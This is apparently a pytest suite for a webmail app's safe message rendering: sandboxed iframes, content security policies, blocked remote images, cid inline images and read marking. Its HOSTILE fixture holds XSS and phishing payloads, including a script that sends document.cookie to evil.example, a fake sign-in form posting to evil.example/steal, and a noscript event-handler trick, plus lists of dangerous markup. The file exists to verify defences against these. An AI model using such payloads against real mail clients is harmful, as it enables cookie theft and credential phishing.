"""Reading safely: hostile HTML renders harmless in a sandboxed frame with its own policy,
remote images wait for the reader, cid: images come through the app, plain text keeps its
lines, opening marks read, and a view is one Graph request."""

import html as html_lib
import re

import pytest

from .conftest import csrf

HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><style>body{background:url(https://evil.example/css.png)}
</style></head><body>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<img src="x" onerror="alert('onerror')">
<a href="javascript:alert('js')">Pay now</a> <a href="vbscript:msgbox(1)">vb</a>
<a href="data:text/html,<script>alert(1)</script>">data</a>
<div style="background-image:url('https://evil.example/track.png')">styled</div>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</p>
<form action="https://evil.example/steal" method="post"><input name="password">
<button>Sign in</button></form>
<iframe src="https://evil.example/frame"></iframe><svg onload="alert(1)"><circle/></svg>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e">
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>
<a href="/mail/1/messages/x/delete">relative</a>
<a href="https://example.com/safe">a safe link</a>
</body></html>"""


def _frame(page: str) -> tuple[str, str]:
    """The iframe's attributes and its document (unescaped from srcdoc)."""
    found = re.search(r'<iframe ([^>]*?)srcdoc="([^"]*)"', page)
    assert found, "no reading frame"
    return found.group(1), html_lib.unescape(found.group(2))


def _body(document: str) -> str:
    return document.split("<body>", 1)[1]


@pytest.fixture
def hostile(mailbox_of, message_id):
    """A message of Adele's whose body is every trick at once."""
    found = message_id("Invoice 4471")
    mailbox_of().messages[found].body = HOSTILE
    return found


def test_hostile_html_renders_harmless(adele, hostile):
    page = adele.get(f"/mail/1/messages/{hostile}").get_data(as_text=True)
    attributes, document = _frame(page)
    body = _body(document).lower()
    for danger in ("<script", "onerror", "onload", "javascript:", "vbscript:", "data:",
                   "<form", "<input", "<button", "url(", "<style", "style=", "<iframe",
                   "<svg", "<object", "<embed", "<meta", "<base", "evil.example/steal",
                   'href="/mail'):
        assert danger not in body, danger
    assert "pay now" in body and 'href="https://example.com/safe"' in body
    assert 'target="_blank"' in body and 'rel="noopener noreferrer"' in body
    assert "allow-scripts" not in attributes and "allow-same-origin" not in attributes
    assert 'sandbox="allow-popups allow-popups-to-escape-sandbox"' in attributes
    assert "<script" not in page.split("<iframe", 1)[1].split("</iframe>", 1)[0]


def test_the_frame_has_its_own_strict_policy(adele, hostile):
    resp = adele.get(f"/mail/1/messages/{hostile}")
    _attributes, document = _frame(resp.get_data(as_text=True))
    policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"',
                       document).group(1)
    assert "default-src 'none'" in policy and "form-action 'none'" in policy
    assert "script-src" not in policy  # falls back to default-src 'none'
    assert "https:" not in policy  # no remote images before they are allowed
    page_policy = resp.headers["Content-Security-Policy"]
    assert "script-src 'self'" in page_policy and "https:" not in page_policy


def test_remote_images_load_only_after_allowing(adele, message_id):
    newsletter = message_id("Winter collection")
    other = message_id("Early-season rooms")
    path = f"/mail/1/messages/{newsletter}"
    page = adele.get(path).get_data(as_text=True)
    _attributes, document = _frame(page)
    assert not re.search(r'<img[^>]+src="https?://(?!localhost)', _body(document))
    assert "remote image" in page and "blocked" in page
    refused = adele.post(f"{path}/images", data={})  # no CSRF token
    assert refused.status_code == 400
    assert "https:" not in adele.get(path).headers["Content-Security-Policy"]
    allowed = adele.post(f"{path}/images", data={"csrf_token": csrf(adele, path)})
    assert allowed.status_code == 303 and allowed.headers["Location"].endswith(path)
    resp = adele.get(path)
    _attributes, document = _frame(resp.get_data(as_text=True))
    assert re.search(r'<img[^>]+src="https://', _body(document))
    assert "https:" in resp.headers["Content-Security-Policy"]
    assert "img-src http://localhost:5000 https: http:" in document
    # Only that message: another newsletter still waits.
    _attributes, document = _frame(adele.get(f"/mail/1/messages/{other}")
                                   .get_data(as_text=True))
    assert not re.search(r'<img[^>]+src="https://', _body(document))


def test_cid_images_are_served_from_the_attachments_through_the_app(adele, client,
                                                                    message_id):
    itinerary = message_id("Your itinerary")
    _attributes, document = _frame(adele.get(f"/mail/1/messages/{itinerary}")
                                   .get_data(as_text=True))
    assert "cid:" not in _body(document)
    url = re.search(r'<img[^>]+src="(http://localhost:5000/mail/inline\?t=[^"]+)"',
                    document).group(1)
    image = client.get(url.removeprefix("http://localhost:5000"))  # no session cookie
    assert image.status_code == 200
    assert image.mimetype in ("image/png", "image/jpeg", "image/gif")
    assert image.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in image.headers["Content-Security-Policy"]
    token = url.split("?t=", 1)[1]
    tampered = token[:-3] + ("AAA" if not token.endswith("AAA") else "BBB")
    assert client.get(f"/mail/inline?t={tampered}").status_code == 404


def test_plain_text_keeps_its_lines_and_links_are_made_safely(adele, mailbox_of, message_id):
    lunch = message_id("Lunch?")
    mailbox_of().messages[lunch].body = ("Hi,\nsee https://example.com/menu?day=1&x=2.\n"
                                         "<script>alert(1)</script> javascript:alert(2)\nBye")
    page = adele.get(f"/mail/1/messages/{lunch}").get_data(as_text=True)
    shown = re.search(r'<div class="mail-plain">(.*?)</div>', page, re.S).group(1)
    assert "Hi,\nsee " in shown and "\nBye" in shown
    assert ('<a href="https://example.com/menu?day=1&amp;x=2" target="_blank" '
            'rel="noopener noreferrer">') in shown
    assert "&lt;script&gt;" in shown and "<script" not in shown
    assert 'href="javascript' not in shown


def test_headers_and_attachments_are_shown(adele, message_id):
    itinerary = message_id("Your itinerary")
    page = adele.get(f"/mail/1/messages/{itinerary}").get_data(as_text=True)
    for label in ("<dt>From</dt>", "<dt>To</dt>", "<dt>Date</dt>"):
        assert label in page
    assert "(Pacific Standard Time)" in page or "(UTC)" in page
    files = re.findall(r'class="mail-attachments">(.*?)</ul>', page, re.S)[0]
    assert ".pdf</a>" in files and "application/pdf, 730 Bytes" in files


def test_opening_marks_read_and_a_view_is_one_request(adele, sandbox, mailbox_of,
                                                      message_id):
    lunch = message_id("Lunch?")
    assert not mailbox_of().messages[lunch].is_read
    sandbox.reset_counts()
    adele.get(f"/mail/1/messages/{lunch}")
    counts = sandbox.request_totals()
    assert counts == {"graph_message": 1, "graph_update_message": 1}
    assert mailbox_of().messages[lunch].is_read
    sandbox.reset_counts()
    adele.get(f"/mail/1/messages/{lunch}")
    counts = sandbox.request_totals()
    assert counts == {"graph_message": 1}


def test_a_message_that_is_gone_is_a_404_page(adele):
    resp = adele.get("/mail/1/messages/AAMkAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
    assert resp.status_code == 404
    assert "no longer in the mailbox" in resp.get_data(as_text=True)


@pytest.mark.parametrize("subject", ["Invoice 4471", 'shared "Q4 plan"',
                                     "your mailbox will be suspended"])
def test_the_seeded_hostile_messages_render_harmless(adele, message_id, subject):
    page = adele.get(f"/mail/1/messages/{message_id(subject)}").get_data(as_text=True)
    body = _body(_frame(page)[1]).lower()
    for danger in ("<script", "javascript:", "vbscript:", "data:", "<form", "<meta", "<base",
                   "<iframe", "<svg", "<object", "<embed", "style=", "expression("):
        assert danger not in body, danger
    assert not re.search(r"<[^>]*\son\w+\s*=", body)  # no event handler attribute


def test_an_unread_message_opened_from_the_list_is_one_round_trip(adele, sandbox, mailbox_of,
                                                                  message_id):
    lunch = message_id("Lunch?")
    listed = adele.get("/mail/").get_data(as_text=True)
    link = re.search(rf'href="(/mail/1/messages/{re.escape(lunch)}[^"]*)"', listed).group(1)
    assert link.endswith("?unread=1")
    sandbox.reset_counts()
    page = adele.get(link.replace("&amp;", "&")).get_data(as_text=True)
    counts = sandbox.request_totals()
    assert counts == {"graph_batch": 1, "graph_message": 1, "graph_update_message": 1}
    assert mailbox_of().messages[lunch].is_read and "Mark unread" in page


def test_a_refused_mark_read_is_said_and_the_message_still_shown(adele, sandbox, message_id):
    lunch = message_id("Lunch?")
    sandbox.faults.force_status("graph_update_message", 500)
    page = adele.get(f"/mail/1/messages/{lunch}?unread=1").get_data(as_text=True)
    assert "This message could not be marked read" in page
    assert "Lunch at 12:30?" in page and "Mark read" in page


@pytest.mark.parametrize("query", ["", "?unread=1"])
def test_a_view_brings_the_attachments_metadata_not_their_bytes(adele, monkeypatch, message_id,
                                                                query):
    from plugins.mail import message_views
    seen = []

    def spy(account, message, allow):
        seen.extend(message.get("attachments") or [])
        return reading(account, message, allow)

    reading = message_views.reading
    monkeypatch.setattr(message_views, "reading", spy)
    page = adele.get(f"/mail/1/messages/{message_id('Your itinerary')}{query}")
    assert page.status_code == 200 and seen
    assert not any("contentBytes" in item for item in seen)
    assert any(item.get("contentId") for item in seen)  # the cid: images still resolve
    assert "/mail/inline?t=" in page.get_data(as_text=True)


def test_a_cid_image_link_dies_with_sign_out_and_stays_out_of_the_log(adele, client, caplog,
                                                                       message_id):
    itinerary = message_id("Your itinerary")
    with caplog.at_level("INFO", logger="postpress_whitelabel.requests"):
        _attributes, document = _frame(adele.get(f"/mail/1/messages/{itinerary}")
                                       .get_data(as_text=True))
        url = html_lib.unescape(re.search(r'<img[^>]+src="http://localhost:5000'
                                          r'(/mail/inline\?t=[^"]+)"', document).group(1))
        assert client.get(url).status_code == 200  # no cookie: the frame sends none
    token = url.split("?t=", 1)[1]
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert "/mail/inline" in logged and token not in logged
    adele.post("/logout", data={"csrf_token": csrf(adele, "/")})
    assert client.get(url).status_code == 404
